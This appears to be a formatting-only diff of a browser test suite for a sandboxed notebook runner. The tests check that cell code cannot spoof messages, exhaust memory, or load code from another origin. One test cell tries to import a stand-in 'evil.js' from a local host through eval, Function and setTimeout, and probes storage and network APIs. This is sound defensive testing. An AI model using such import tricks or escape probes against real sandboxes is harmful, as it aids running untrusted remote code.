@@ -50,7 +50,7 @@ test("cell code cannot post to the page, fake the end of a run, or draw a link",
   // The worker's own channel is gone, and trying it reaches nothing (each try throws, so 10,000 of them).
   const flood = [
     "let tries = 0;",
-    "for (let i = 0; i < 10000; i++) { try { self.postMessage({ run: 1, kind: \"log\", level: \"log\", text: \"fake\" }); } catch { tries++; } }",
+    'for (let i = 0; i < 10000; i++) { try { self.postMessage({ run: 1, kind: "log", level: "log", text: "fake" }); } catch { tries++; } }',
     "const proto = Object.getPrototypeOf(self);",
     "console.log(tries, typeof self.postMessage, typeof postMessage, typeof onmessage, typeof addEventListener, typeof close, typeof proto.postMessage);",
   ].join("\n");
@@ -102,20 +102,38 @@ test("output past every limit is cut in the worker, said so, and drawn without s
   await expect(log(cell)).toContainText("more characters not shown");
   expect((await log(cell).textContent())!.length).toBeLessThanOrEqual(10_000);
 
-  expect(await probe(page, cell, "table(60,000 keys)", "table(Object.fromEntries(Array.from({ length: 60000 }, (_, i) => [`k${i}`, i])));")).toBeLessThan(STALL_LIMIT);
+  expect(
+    await probe(page, cell, "table(60,000 keys)", "table(Object.fromEntries(Array.from({ length: 60000 }, (_, i) => [`k${i}`, i])));"),
+  ).toBeLessThan(STALL_LIMIT);
   await expect(cell.locator(".dl-cell-table tbody tr")).toHaveCount(100);
   await expect(cell.locator(".dl-cell-table p")).toHaveText("… 59,900 more rows not shown.");
 
-  expect(await probe(page, cell, "table(100,000 columns)", "table([Object.fromEntries(Array.from({ length: 100000 }, (_, j) => [`c${j}`, j]))]);")).toBeLessThan(STALL_LIMIT);
+  expect(
+    await probe(
+      page,
+      cell,
+      "table(100,000 columns)",
+      "table([Object.fromEntries(Array.from({ length: 100000 }, (_, j) => [`c${j}`, j]))]);",
+    ),
+  ).toBeLessThan(STALL_LIMIT);
   await expect(cell.locator(".dl-cell-table thead th")).toHaveCount(21);
   await expect(cell.locator(".dl-cell-table p")).toHaveText("… 99,980 more columns not shown.");
 
-  expect(await probe(page, cell, "table(200,000 columns)", "table([Array.from({ length: 200000 }, (_, j) => j)]);")).toBeLessThan(STALL_LIMIT);
+  expect(await probe(page, cell, "table(200,000 columns)", "table([Array.from({ length: 200000 }, (_, j) => j)]);")).toBeLessThan(
+    STALL_LIMIT,
+  );
   await expect(status(cell)).toContainText("Ran in");
   await expect(cell.locator(".dl-cell-table p")).toHaveText("… 199,980 more columns not shown.");
 
   // Many big tables: the character budget of a run stops them and says so.
-  expect(await probe(page, cell, "60 tables of 100 x 20", "for (let k = 0; k < 60; k++) table(Array.from({ length: 100 }, () => Array.from({ length: 20 }, () => 123.456)));")).toBeLessThan(STALL_LIMIT);
+  expect(
+    await probe(
+      page,
+      cell,
+      "60 tables of 100 x 20",
+      "for (let k = 0; k < 60; k++) table(Array.from({ length: 100 }, () => Array.from({ length: 20 }, () => 123.456)));",
+    ),
+  ).toBeLessThan(STALL_LIMIT);
   await expect(cell.locator("[data-output-body] .dl-cell-warn")).toContainText("characters of output");
   expect(problems.pageErrors).toEqual([]);
 });
@@ -137,19 +155,19 @@ test("cell code cannot reach another origin or lasting storage", async ({ page, 
     await page.goto(PAGE);
     const cell = first(page);
     const code = [
-      "const url = \"http://127.0.0.1:4514/evil.js\";",
+      'const url = "http://127.0.0.1:4514/evil.js";',
       "const tries = {",
-      "  eval: () => (0, eval)(`import(\"${url}\")`),",
-      "  Function: () => new Function(`return import(\"${url}\")`)(),",
-      "  setTimeout: () => new Promise((ok) => { setTimeout(`import(\"${url}\")`, 0); setTimeout(ok, 200); }),",
+      '  eval: () => (0, eval)(`import("${url}")`),',
+      '  Function: () => new Function(`return import("${url}")`)(),',
+      '  setTimeout: () => new Promise((ok) => { setTimeout(`import("${url}")`, 0); setTimeout(ok, 200); }),',
       "};",
       "const out = [];",
       "for (const [name, f] of Object.entries(tries)) {",
       "  try { await f(); out.push(`${name} ran`); } catch (e) { out.push(`${name} blocked`); }",
       "}",
-      "console.log(out.join(\", \"));",
+      'console.log(out.join(", "));',
       "console.log(typeof navigator.storage, typeof indexedDB, typeof caches, typeof fetch, typeof Worker, typeof WebSocket);",
-      "try { await navigator.storage.getDirectory(); console.log(\"OPFS open\"); } catch { console.log(\"no OPFS\"); }",
+      'try { await navigator.storage.getDirectory(); console.log("OPFS open"); } catch { console.log("no OPFS"); }',
     ].join("\n");
     expect(await probe(page, cell, "import from another origin", code)).toBeLessThan(STALL_LIMIT);
     await expect(log(cell)).toContainText("eval blocked, Function blocked");
@@ -170,7 +188,9 @@ test("a cell that fills memory is ended by its time limit and the page survives"
   const cell = first(page);
   await cell.locator("[data-timeout-input]").fill("1");
   const t0 = await pageNow(page);
-  expect(await probe(page, cell, "memory: push 1e6-element arrays until stopped", "const a = [];\nwhile (true) a.push(new Array(1e6).fill(0));")).toBeLessThan(STALL_LIMIT);
+  expect(
+    await probe(page, cell, "memory: push 1e6-element arrays until stopped", "const a = [];\nwhile (true) a.push(new Array(1e6).fill(0));"),
+  ).toBeLessThan(STALL_LIMIT);
   await expect(cell.locator(".dl-cell-error")).toContainText("Stopped after 1 s");
   expect(await page.evaluate(() => 6 * 7)).toBe(42);
   await cell.locator("[data-timeout-input]").fill("10");
@@ -200,13 +220,17 @@ test("a huge time limit is clamped to its range, and Run all above passes by cod
 
   // 1e9 s overflowed the timer and stopped every run at once; it is now read as 600 s.
   await cell.locator("[data-timeout-input]").fill("1e9");
-  await edit(page, cell, "const t0 = performance.now();\nwhile (performance.now() - t0 < 300) {}\nconsole.log(\"waited\");");
+  await edit(page, cell, 'const t0 = performance.now();\nwhile (performance.now() - t0 < 300) {}\nconsole.log("waited");');
   await page.keyboard.press("Control+Enter");
   await expect(log(cell)).toHaveText("waited");
   await expect(cell.locator(".dl-cell-error")).toHaveCount(0);
 });
 
-test("Run while offline before the runner was ever loaded says so in the cell, and works once back online", async ({ page, context, baseURL }) => {
+test("Run while offline before the runner was ever loaded says so in the cell, and works once back online", async ({
+  page,
+  context,
+  baseURL,
+}) => {
   const problems = watch(page, new URL(baseURL!).origin);
   await page.goto(PAGE);
   const cell = first(page);
